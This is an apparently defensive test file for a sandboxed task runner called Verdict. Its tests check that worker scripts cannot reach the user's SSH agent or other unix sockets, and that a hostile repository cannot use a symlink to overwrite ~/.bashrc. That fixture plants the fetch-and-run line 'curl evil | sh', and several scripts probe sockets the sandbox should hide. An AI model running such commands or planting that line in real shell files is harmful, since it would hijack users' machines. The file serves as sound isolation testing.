  it("the user's own sockets are out of reach: a socket in /tmp/ssh-*, and SSH_AUTH_SOCK is not passed on", async function () {
    const dir = tempDir();
    const sockDir = fs.mkdtempSync('/tmp/ssh-verdicttest');
    const sock = path.join(sockDir, 'agent.sock');
    let reached = 0;
    const server = net.createServer((c) => {
      reached++;
      c.end('hello\n');
    });
    await new Promise<void>((resolve) => server.listen(sock, resolve));
    try {
      const spec = [
        `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('${sock}'); print(s.recv(10))" > reach.txt 2>&1 || echo unreachable >> reach.txt`,
        'echo "agent=${SSH_AUTH_SOCK:-none}" >> reach.txt',
      ].join('\n');
      const file = writeManifest(dir, {
        workdir: 'w',
        tasks: [scriptTask('sock', spec, 'cat reach.txt; grep -q unreachable reach.txt && grep -q agent=none reach.txt')],
      });
      const r = await cli(['run', file, '--home', path.join(dir, 'home'), '--no-dashboard'], {
        env: { HOME: path.join(dir, 'user-home'), SSH_AUTH_SOCK: sock },
      });
      assert.equal(r.exitCode, 0, r.all);
      assert.equal(reached, 0, 'the worker connected to the socket');
    } finally {
      server.close();
      fs.rmSync(sockDir, { recursive: true, force: true });
    }
  });

  it('no socket in /tmp is reachable: not one made after the step started, even named in its script; none is listed', async function () {
    await requireSandbox(this);
    const dir = tempDir();
    const late = `/tmp/verdict-late-${process.pid}.sock`;
    const early = fs.mkdtempSync('/tmp/verdict-sockdir-');
    let reached = 0;
    const servers = [0, 1].map(() =>
      net.createServer((c) => {
        reached++;
        c.end('hello\n');
      }),
    );
    await new Promise<void>((resolve) => servers[0]?.listen(path.join(early, 'svc.sock'), resolve));
    try {
      const spec = [
        'touch started',
        'while [ ! -e go ]; do sleep 0.1; done',
        `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('${late}'); print(s.recv(10))" > reach.txt 2>&1 || echo unreachable >> reach.txt`,
        'find /tmp -type s > socks.txt 2>/dev/null; true',
      ].join('\n');
      const file = writeManifest(dir, {
        workdir: 'w',
        tasks: [scriptTask('late', spec, 'cat reach.txt socks.txt; grep -q unreachable reach.txt && ! test -s socks.txt', { max_attempts: 1 })],
      });
      const taskDir = path.join(dir, 'w', 'late');
      const running = cli(['run', file, '--home', path.join(dir, 'home'), '--no-dashboard'], { env: { HOME: path.join(dir, 'user-home') } });
      while (!fs.existsSync(path.join(taskDir, 'started'))) await sleep(100);
      await new Promise<void>((resolve) => servers[1]?.listen(late, resolve));
      fs.writeFileSync(path.join(taskDir, 'go'), '');
      const r = await running;
      assert.equal(r.exitCode, 0, r.all);
      assert.equal(readRows(path.join(dir, 'home'))[0]?.verdict, 'PASS');
      assert.equal(reached, 0, 'the worker connected to a socket in /tmp');
    } finally {
      for (const s of servers) s.close();
      fs.rmSync(late, { force: true });
      fs.rmSync(early, { recursive: true, force: true });
    }
  });

  it('"network": false: an abstract unix socket of the host is out of reach (with "network": "host", the same probe reaches it)', async function () {
    await requireSandbox(this);
    const dir = tempDir();
    const name = `verdict-abstract-${process.pid}`;
    // Node cannot listen on an abstract name (libuv takes the path up to its NUL): a python server counts connections.
    const count = path.join(dir, 'connections');
    const serverCode = `import socket\ns=socket.socket(socket.AF_UNIX)\ns.bind(b'\\0${name}')\ns.listen(8)\nopen('${count}.ready','w').close()\nwhile True:\n  c,_=s.accept()\n  open('${count}','a').write('x')\n  c.sendall(b'hello')\n  c.close()\n`;
    const server = execa('python3', ['-c', serverCode], { reject: false });
    while (!fs.existsSync(`${count}.ready`)) await sleep(50);
    const reached = () => (fs.existsSync(count) ? fs.readFileSync(count, 'utf8').length : 0);
    try {
      const spec = `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect(b'\\0${name}'); print(s.recv(10))" > reach.txt 2>&1 || echo unreachable >> reach.txt`;
      const file = writeManifest(dir, {
        workdir: 'w',
        tasks: [
          scriptTask('offline', spec, 'cat reach.txt; grep -q unreachable reach.txt', { max_attempts: 1, network: false }),
          // The control: the probe works, so the offline task's "unreachable" is the sandbox's doing.
          scriptTask('online', spec, 'cat reach.txt; grep -q hello reach.txt', { max_attempts: 1, network: 'host' }),
        ],
      });
      const r = await cli(['run', file, '--home', path.join(dir, 'home'), '--no-dashboard'], { env: { HOME: path.join(dir, 'user-home') } });
      assert.equal(r.exitCode, 0, r.all);
      assert.deepEqual(
        readRows(path.join(dir, 'home'))
          .map((row) => `${row.task_key}:${row.verdict}`)
          .sort(),
        ['offline:PASS', 'online:PASS'],
      );
      assert.equal(reached(), 1, 'only the online task reached the abstract socket');
    } finally {
      server.kill('SIGKILL');
      await server;
    }
  });

  it('a plain workdir is never used where Verdict did not make the task dir, nor inside VERDICT_HOME', async () => {
    const dir = tempDir();
    fs.mkdirSync(path.join(dir, 'mine', 'bin'), { recursive: true });
    fs.writeFileSync(path.join(dir, 'mine', 'bin', 'tool'), "the user's own\n");
    const file = writeManifest(dir, { workdir: 'mine', tasks: [scriptTask('bin', 'echo planted > git', 'test -s git')] });
    const home = path.join(dir, 'home');
    const r = await run(file, home, path.join(dir, 'user-home'));
    assert.equal(r.exitCode, 1, r.all);
    assert.match(r.all ?? '', /already holds files that no Verdict run made there/);
    assert.equal(fs.readFileSync(path.join(dir, 'mine', 'bin', 'tool'), 'utf8'), "the user's own\n");
    assert.equal(fs.existsSync(path.join(dir, 'mine', 'bin', 'git')), false);
    const inside = writeManifest(dir, { workdir: 'home', tasks: [scriptTask('runs', 'echo x > y', 'test -s y')] }, 'inside.swarm.json');
    const r2 = await run(inside, home, path.join(dir, 'user-home'));
    assert.equal(r2.exitCode, 2, r2.all);
    assert.match(r2.all ?? '', /is inside VERDICT_HOME/);
  });

  it('a hostile repository cannot make `include` copy through a symlink its base_ref checks out (onto ~/.bashrc)', async () => {
    const dir = tempDir();
    const userHome = path.join(dir, 'user-home');
    fs.mkdirSync(userHome, { recursive: true });
    fs.writeFileSync(path.join(userHome, '.bashrc'), "# the user's own\n");
    const repo = makeRepo(path.join(dir, 'repo'), { 'README.md': 'x\n' });
    // base_ref "evil": d is a symlink up to the user's home; the checked-out branch has a real d/.bashrc.
    git(repo, 'checkout', '-q', '-b', 'evil');
    fs.symlinkSync(userHome, path.join(repo, 'd'));
    git(repo, 'add', 'd');
    git(repo, 'commit', '-q', '-m', 'evil');
    git(repo, 'checkout', '-q', 'main');
    fs.mkdirSync(path.join(repo, 'd'));
    fs.writeFileSync(path.join(repo, 'd', '.bashrc'), 'curl evil | sh\n');
    const file = writeManifest(dir, {
      worktrees: true,
      repo,
      base_ref: 'evil',
      include: ['d/.bashrc'],
      tasks: [scriptTask('t', 'echo ok > out.txt', 'test -s out.txt')],
    });
    const r = await run(file, path.join(dir, 'home'), userHome);
    assert.equal(r.exitCode, 1, r.all);
    assert.match(r.all ?? '', /d in the worktree is a symlink; the copy would not stay inside the worktree/);
    assert.equal(fs.readFileSync(path.join(userHome, '.bashrc'), 'utf8'), "# the user's own\n");
    const dots = writeManifest(dir, { worktrees: true, repo, include: ['../x'], tasks: [scriptTask('t', 'true', 'test -s README.md')] }, 'dots.swarm.json');
    const r2 = await run(dots, path.join(dir, 'home'), userHome);
    assert.equal(r2.exitCode, 2, r2.all);
    assert.match(r2.all ?? '', /include: \.\.\/x must be a path inside the repository/);
  });
});

/**
 * A repository under `dir`/repo holding app.py (`appPy`) with per-worktree config on (extensions.worktreeConfig): each
 * worktree reads a config.worktree of its own, in its admin dir, besides the repository's config.
 */
function worktreeConfigRepo(dir: string, appPy: string): string {
  const repo = makeRepo(path.join(dir, 'repo'), { 'app.py': appPy });
  git(repo, 'config', 'core.repositoryformatversion', '1');
  git(repo, 'config', 'extensions.worktreeConfig', 'true');
  return repo;
}
